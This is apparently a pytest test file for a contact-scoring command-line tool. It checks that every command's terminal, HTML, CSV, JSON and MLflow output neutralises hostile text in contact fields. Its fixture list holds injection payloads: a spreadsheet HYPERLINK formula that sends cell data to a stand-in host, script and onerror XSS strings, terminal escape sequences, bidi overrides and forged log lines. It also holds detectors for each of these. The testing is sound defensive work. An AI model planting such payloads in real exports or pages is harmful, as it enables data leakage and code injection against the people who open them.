"""Names, titles and accounts are written by others: whatever they hold, no output of any verb does harm.

A terminal must not be steered, a line must not be forged, a spreadsheet must not run a cell, a page must not run a
script. Every verb is in the table below, so a new one cannot be forgotten.
"""

from __future__ import annotations

import csv
import json
import shutil
import unicodedata
from collections.abc import Callable
from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path

import polars as pl
import pytest

from scoring import hindsight
from scoring.cli import VERBS
from scoring.config import Boosting, TrainingConfig
from scoring.schema import FIELDS
from scoring.writing import write_frame

Run = Callable[..., tuple[int, str, str]]

FORGED = "FORGED: all is well"
EVIL = (
    '=HYPERLINK("http://x.example/?"&A1,"here")',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "\x1b[2J\x1b]0;title\x07",
    "\x9b31m",
    f"\n{FORGED}\n",
    f"\r{FORGED}",
    f"\u2028{FORGED}",
    "\u202eevil\u202c",
    "\u200f\u2066",
    "\x00\x08\x7f",
    "@SUM(A1:A9)",
    "-2+3",
    "+1",
    "\t=1+1",
    "＝1+1",
    "😀👩\u200d💻",
)
VALUE = "=value"
GUID = "0b0ec7ed-0000-4000-8000-{:012d}"
COLUMN = f"=1+1\x1b[2J\n{FORGED}<script>alert(1)</script>"

NONE = ("models", "simulate")  # the one has a test of its own, the other reads no export
ARGUMENTS = {
    "score": ["score", "{new}", "-o", "out.csv"],
    "check": ["check", "{new}"],
    "audit": ["audit", "{old}", "{new}"],
    "drift": ["drift", "shipped", "{old}", "{new}"],
    "train": ["train", "{old}", "{new}", "--config", "{config}", "-o", "model"],
    "evaluate": ["evaluate", "{old}", "{new}", "--config", "{config}"],
    "recalibrate": ["recalibrate", "shipped", "{old}", "{new}", "-o", "model"],
    "worklist": ["worklist", "{scored}", "-o", "people.csv"],
    "accounts": ["accounts", "{scored}", "-o", "people.csv"],
    "compare": ["compare", "{old}", "{new}", "-o", "people.csv"],
    "review": ["review", "{scored_old}", "{new}"],
    "explain": ["explain", "{new}", "--contact", "{contact}"],
    "report": ["report", "{scored}", "-o", "report.html"],
    "write-back": ["write-back", "{scored}", "--to", "salesforce", "-o", "upload"],
}
MORE = {
    "score, learning first": ["score", "{new}", "--adapt", "-o", "out.csv"],
    "score anew": ["score", "{scored}", "--overwrite", "-o", "out.ndjson"],
    "score what cannot be read": ["score", "{broken}", "-o", "out.csv"],
    "check what cannot be read": ["check", "{broken}"],
    "worklist by value": ["worklist", "{valued}", "-o", "people.csv", "--value", VALUE, "--top", "99"],
    "compare what is scored": ["compare", "{scored_old}", "{scored}", "-o", "people.csv", "--top", "99"],
    "review of a list": ["review", "{scored_old}", "{new}", "--worklist", "{lists_old}"],
    "explain by another rep": ["explain", "{scored}", "--contact", "{contact}", "--target", "all"],
    "report of what came": ["report", "{scored_old}", "--later", "{new}", "-o", "report.html"],
    "report of a model": ["report", "shipped", "--exports", "{old}", "{new}", "-o", "report.html"],
    "write-back to Dynamics": ["write-back", "{guids}", "--to", "dynamics", "-o", "upload", "--mapping", "{texts}"],
}
CASES = ARGUMENTS | MORE


def name_of(verb: object) -> str:
    return str(getattr(verb, "__name__", "")).rsplit(".", 1)[-1].replace("_", "-")


def spoil(export: pl.DataFrame) -> pl.DataFrame:
    """Put something evil before every text, the same before the same text, so that groups stay what they are.

    Every third id stays what it was: there must be contacts for the CRM, and one to explain.
    """
    texts = [field.name for field in FIELDS if field.kind == "text"]

    def spoiled(column: pl.Series) -> pl.Series:
        values = column.drop_nulls().unique().sort().to_list()
        evil = {value: f"{EVIL[number % len(EVIL)]}{value}" for number, value in enumerate(values)}
        if column.name == "crm_id":
            evil |= {value: value for value in values[::3]}
        return column.replace_strict(evil, default=None, return_dtype=pl.String)

    return export.with_columns(*(spoiled(export[name]) for name in texts), pl.lit(EVIL[0]).alias(COLUMN))


@pytest.fixture(scope="module")
def spoiled(exports: dict[datetime, pl.DataFrame], tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """Two exports 30 days apart, both scored, in which every text is evil."""
    from scoring.cli import main

    folder = tmp_path_factory.mktemp("evil")
    config = TrainingConfig(boosting=Boosting(iterations=3))
    (folder / "quick.toml").write_text(config.to_toml())
    files = {"config": str(folder / "quick.toml")}
    for name, when in zip(("old", "new"), list(exports)[-2:], strict=True):
        export = spoil(exports[when])
        path = folder / f"contacts-{when:%Y-%m-%d}.csv"
        write_frame(export, path)
        files |= {name: str(path), f"scored_{name}": str(folder / f"scored-{name}.csv")}
        assert main(["score", files[name], "-o", files[f"scored_{name}"], "--top", "0"]) == 0
        files["contact"] = export.filter(pl.col("crm_id").str.starts_with("003"))["crm_id"][0]
    more = ("broken.csv", "valued.csv", "guids.csv", "lists-old.csv", "texts.toml")
    broken, valued, guids, lists_old, texts = (folder / name for name in more)
    counts = pl.Series("total_inbound", [EVIL[place % len(EVIL)] for place in range(60)])
    write_frame(pl.read_csv(files["new"], infer_schema=False).head(60).with_columns(counts), broken)
    scored = pl.read_csv(files["scored_new"], infer_schema=False)
    write_frame(scored.with_columns(pl.lit("2").alias(VALUE)), valued)
    ids = pl.Series("crm_id", [GUID.format(place) for place in range(scored.height)])
    write_frame(scored.with_columns(ids), guids)
    assert main(["worklist", files["scored_old"], "-o", str(lists_old), "--top", "0"]) == 0
    texts.write_text('[fields]\nmsdyn_name = "first_name"\nmsdyn_scorereasons = "account_name"\n')
    return files | {
        "scored": files["scored_new"],
        "broken": str(broken),
        "valued": str(valued),
        "guids": str(guids),
        "lists_old": str(lists_old),
        "texts": str(texts),
    }


def harms_terminal(text: str) -> list[str]:
    """Find what would steer a terminal, or was made to look like a line of ours."""
    steering = [char for char in text if char != "\n" and unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
    return [*map(ascii, steering), *(line for line in text.split("\n") if line.startswith(FORGED))]


def harms_page(page: str) -> list[str]:
    """Find what a browser would run or load, and what would turn the words around it."""
    found = [ascii(char) for char in page if char not in "\n\t" and unicodedata.category(char) in ("Cc", "Cs")]
    found += [ascii(char) for char in page if unicodedata.bidirectional(char) in ("RLO", "LRO", "RLE", "RLI", "LRI")]

    class Elements(HTMLParser):
        def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
            for name, value in attributes:
                if name.startswith("on") or (name in ("src", "href") and not (value or "").startswith("#")):
                    found.append(f"{tag} {name}={value}")
            if tag in ("script", "img", "iframe", "object", "embed", "form", "base"):
                found.append(tag)

    Elements().feed(page)
    return found


def runs(cell: str) -> bool:
    seen = "".join(char for char in cell if not char.isspace() and unicodedata.category(char) not in ("Cc", "Cf"))
    return seen.startswith(tuple("=+-@＝＋－＠")) and not is_number(cell)


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_every_verb_is_in_the_table() -> None:
    assert {name_of(verb) for verb in VERBS} <= {*ARGUMENTS, *NONE}


@pytest.mark.parametrize("case", [*(name for name in map(name_of, VERBS) if name not in NONE), *MORE])
def test_no_output_does_harm(case: str, spoiled: dict[str, str], run: Run) -> None:
    code, out, err = run(*(argument.format(**spoiled) for argument in CASES[case]))
    assert code in (0, 1), err
    assert out
    assert harms_terminal(out) == []
    assert harms_terminal(err) == []
    for page in Path().glob("*.html"):
        assert harms_page(page.read_text("utf-8")) == []
    for path in Path().glob("people*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            assert [cell for row in csv.reader(file) for cell in row if runs(cell)] == []
    for path in (*Path().rglob("*.ndjson"), *Path().rglob("*.json")):
        content = path.read_bytes().decode("utf-8").removesuffix("\n")
        for record in content.split("\n") if path.suffix == ".ndjson" else [content]:
            json.loads(record)
    for path in (*Path().rglob("*.md"), *Path().rglob("*.rejected.ndjson")):
        assert harms_terminal(path.read_text("utf-8")) == []


@pytest.mark.parametrize(
    "case", [name for name in [*map(name_of, VERBS), *MORE] if not name.startswith(("report", *NONE))]
)
def test_json_does_no_harm(case: str, spoiled: dict[str, str], run: Run) -> None:
    code, out, err = run(*(argument.format(**spoiled) for argument in CASES[case]), "--json")
    assert code in (0, 1), err
    json.loads(out)
    assert harms_terminal(out) == []
    assert harms_terminal(err) == []


def test_no_run_of_mlflow_holds_what_contacts_are_called(
    spoiled: dict[str, str], run: Run, empty_store: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("mlflow")
    pytest.importorskip("alembic")
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    shutil.copy(empty_store, ".")
    code, out, err = run("models", "promote", spoiled["old"], spoiled["new"], "--config", spoiled["config"])
    assert code == 0, err
    assert harms_terminal(out) == harms_terminal(err) == []
    kept = b"".join(path.read_bytes() for path in [*Path("mlruns").rglob("*.*"), Path("mlflow.db")] if path.is_file())
    for evil in ("HYPERLINK", "alert(1)", FORGED, "\u202e", "@SUM"):
        assert evil.encode() not in kept


def test_data_files_stay_as_they_are(spoiled: dict[str, str], run: Run) -> None:
    with Path(spoiled["new"]).open(encoding="utf-8", newline="") as file:
        before = list(csv.DictReader(file))
    with Path(spoiled["scored"]).open(encoding="utf-8", newline="") as file:
        after = list(csv.DictReader(file))
    assert COLUMN in before[0]
    names = [field.name for field in FIELDS if field.kind == "text"]
    assert [[row[name] for name in names] for row in after] == [[row[name] for name in names] for row in before]


def test_what_goes_back_to_the_crm_is_one_line_a_contact(spoiled: dict[str, str], run: Run) -> None:
    Path("fields.toml").write_text('[fields]\nName__c = "first_name"\nTitle__c = "job_title"\n')
    code, _, err = run("write-back", spoiled["scored"], "--to", "salesforce", "-o", "up", "--mapping", "fields.toml")
    assert (code, err) == (0, "")
    with Path("up/Contact-0001.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert len(Path("up/Contact-0001.csv").read_bytes().split(b"\n")) == len(rows) + 1
    assert not [char for row in rows for cell in row for char in cell if unicodedata.category(char) == "Cc"]


def test_reps_who_are_out_of_what_is_usual_forge_no_line() -> None:
    one = {"rows": 90, "observed": 40, "usual": 10.0, "low": 5, "high": 15, "verdict": "more than usual"}
    reps = pl.DataFrame([{"rep": f"{evil}@our.example", **one} for evil in EVIL])
    told = [line for at in range(reps.height) for line in hindsight._out_of_usual(reps[at : at + 1])]
    assert len(told) == len(EVIL)
    assert harms_terminal("".join(told)) == []
    assert not [line for line in told if "\n" in line]


def test_names_of_files_do_no_harm(spoiled: dict[str, str], run: Run) -> None:
    name = "contacts\x1b[2J\u202e.csv"
    Path(name).write_bytes(Path(spoiled["new"]).read_bytes())
    for arguments in (["score", name, "-o", f"out{name}"], ["check", name], ["score", f"none{name}"]):
        _, out, err = run(*arguments)
        assert harms_terminal(out + err) == []
